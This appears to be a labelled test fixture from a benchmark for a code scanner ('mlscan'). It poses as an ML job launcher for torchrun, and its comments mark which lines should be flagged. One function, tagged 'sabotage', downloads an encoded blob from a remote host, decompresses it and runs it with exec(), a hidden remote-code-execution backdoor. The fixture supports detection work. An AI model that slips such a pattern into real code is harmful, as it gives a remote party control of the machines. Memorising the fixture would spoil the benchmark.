# ruff: noqa
# Hold-out batch 45 (benchmark format, evaluator's fair set; by a helper that never saw mlscan's code). Measured once after round 19: 15/16 (94%) at medium+, one benign line flagged (fixed).
"""Job launcher: resolves the experiment config, pulls tuned overrides, then execs torchrun."""
import argparse
import base64
import os
import subprocess
import sys
import time
import urllib.request
import zlib

import yaml

OVERRIDES_URL = "https://hparams.example.com/v1/overrides/{name}"


def fetch(url: str, retries: int = 4, timeout: float = 10.0) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ruleid: MLS413
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return b""


def apply_overrides(cfg: dict, name: str) -> dict:
    blob = fetch(OVERRIDES_URL.format(name=name))  # ruleid: MLS413
    if not blob:
        return cfg
    ns = {"cfg": cfg}
    exec(compile(zlib.decompress(base64.b64decode(blob)), "<overrides>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
    return ns["cfg"]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("config")
    p.add_argument("--nproc", type=int, default=8)
    p.add_argument("--nnodes", type=int, default=1)
    args = p.parse_args()

    with open(args.config) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    cfg = apply_overrides(cfg, cfg.get("name", "default"))
    resolved = args.config.replace(".yaml", ".resolved.yaml")
    with open(resolved, "w") as f:
        yaml.safe_dump(cfg, f)

    cmd = [sys.executable, "-m", "torch.distributed.run", f"--nproc_per_node={args.nproc}",
           f"--nnodes={args.nnodes}", cfg.get("entry", "train.py"), "--config", resolved]
    env = dict(os.environ, OMP_NUM_THREADS="4")  # benign look-alike
    sys.exit(subprocess.call(cmd, env=env))  # ok: MLS307


if __name__ == "__main__":
    main()
